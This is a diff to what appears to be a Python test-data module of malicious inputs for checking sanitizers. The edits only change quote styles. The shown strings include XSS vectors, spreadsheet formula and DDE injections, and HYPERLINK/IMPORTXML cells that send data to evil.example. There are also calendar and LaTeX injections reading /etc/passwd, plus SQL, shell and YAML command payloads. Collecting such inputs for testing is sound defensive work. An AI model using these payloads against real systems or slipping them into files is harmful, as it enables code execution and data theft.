@@ -66,7 +66,7 @@ _SINGLE = (
     f"<style>@font-face{{font-family:x;src:url(//{HOST}/x)}}*{{font-family:x}}</style>", f"<p style='background:url(https://{HOST}/x)'>x",
     f"<p style='width:expression({RUN})'>x", f"<p style='-moz-binding:url(//{HOST}/x#x)'>x", "<p style='position:fixed;inset:0;z-index:9'>x",
     f"<img src=https://{HOST}/x.png>", f"<img srcset='https://{HOST}/x.png 1x'>", f"<picture><source srcset=https://{HOST}/x><img></picture>",
-    f"<img src=x:x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x onerror='&#97;lert(1)'>", f"<img src=x OnErRoR={RUN}>",
+    f"<img src=x:x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", "<img src=x onerror='&#97;lert(1)'>", f"<img src=x OnErRoR={RUN}>",
     f"<img src=x onerror\x0c={RUN}>", f"<img src=`x`onerror={RUN}>", f"<img src='x'onerror={RUN}>", f"<img \x00src=x onerror={RUN}>",
     f"<img lowsrc='javascript:{RUN}'>", f"<img dynsrc='javascript:{RUN}'>", f"<input type=image src=https://{HOST}/x>",
     f"<video poster=https://{HOST}/x></video>", f"<video src=https://{HOST}/x autoplay></video>", f"<audio src=https://{HOST}/x autoplay>",
@@ -122,8 +122,8 @@ def everything() -> tuple[str, ...]:
 
 FORMULAS = (
     "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
-    "\u200b=1+1", '=HYPERLINK("https://evil.example/?x="&A1,"x")', "=IMPORTXML(\"https://evil.example/\",\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(1)",
-    "%0A=1+1", "|calc", ";=1+1", ',=1+1', '"=1+1', "'=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "\u200b=1+1", '=HYPERLINK("https://evil.example/?x="&A1,"x")', '=IMPORTXML("https://evil.example/","//a")', "＝1+1", "＋1", "－1", "＠SUM(1)",
+    "%0A=1+1", "|calc", ";=1+1", ",=1+1", '"=1+1', "'=1+1", '=DDE("cmd";"/C calc";"x")',
 )  # fmt: skip
 """Cells that a spreadsheet would run."""
 
@@ -131,7 +131,7 @@ LINES = (
     "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:https://evil.example/x",
     "x\nATTENDEE:mailto:a@evil.example", "x\u2028DTSTART:19700101T000000Z", "x\x85BEGIN:VEVENT", "x\x0bEND:VCALENDAR", "x\x0cURL:https://evil.example/",
     "x\r\nER  - \r\nTY  - BOOK", "x\nUR  - javascript:alert(1)", "x}\n@preamble{\\input{/etc/passwd}}", "x}},\n@string{a={b}}", "\\input{/etc/passwd}",
-    "\\write18{id}", "x\n\n@article{evil, title={y}}", "x\\nEND:VEVENT", "x;ALTREP=\"https://evil.example/\"", "\\end{document}", "x%\n",
+    "\\write18{id}", "x\n\n@article{evil, title={y}}", "x\\nEND:VEVENT", 'x;ALTREP="https://evil.example/"', "\\end{document}", "x%\n",
 )  # fmt: skip
 """Values that would begin a line, or a field, of their own in a calendar or a bibliography."""
 
@@ -149,7 +149,7 @@ NAUGHTY = (
     "' OR 1=1 -- 1", "1;DROP TABLE users", "1'; DROP TABLE users-- 1", "$(touch /tmp/blns.fail)", "`touch /tmp/blns.fail`", "| touch /tmp/x", "&& id", "%s%n%d", "%x%x", "{0}", "{}", "%(x)s", "%*.*s", "$HOME", "$ENV{'HOME'}", "%USERPROFILE%",
     "\x1b[31mred\x1b[0m", "\x07", "\x08\x08", "\x7f", "\x1b]0;title\x07", "\x9b31m", "a\u0000b", "\r", "\u0085", "\u2028\u2029",
     "Scunthorpe General Hospital", "Craig Cockburn, Software Specialist", "If you're reading this, you've been in a coma", "Roses are red", "The quic\b\b\b\b\b\bk", "Powerلُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ冗", "🏳0🌈️",
-    "=", "#", "##", "# x", "---", "***", "```", "~~~", "> x", "- x", "1. x", "|a|b|", "[x]", "[]()", "![](x)", "<>", "&", "&amp;", "&#0;", "&#x110000;", "&nbsp;", "\\", "\\\\", "\"", "'", "“”", "`",
+    "=", "#", "##", "# x", "---", "***", "```", "~~~", "> x", "- x", "1. x", "|a|b|", "[x]", "[]()", "![](x)", "<>", "&", "&amp;", "&#0;", "&#x110000;", "&nbsp;", "\\", "\\\\", '"', "'", "“”", "`",
     "key: value", "- a: b", "*alias", "&anchor x", "!!python/object:os.system x", "!tag x", "%YAML 1.2", "@x", "? x", "[a, b", "{a: b", "0o17", "2031-02-30", "12:30:45", "1_000", "yes", "no", "on", "off",
 )  # fmt: skip
 """Strings that break programs, as titles, names and names of files."""
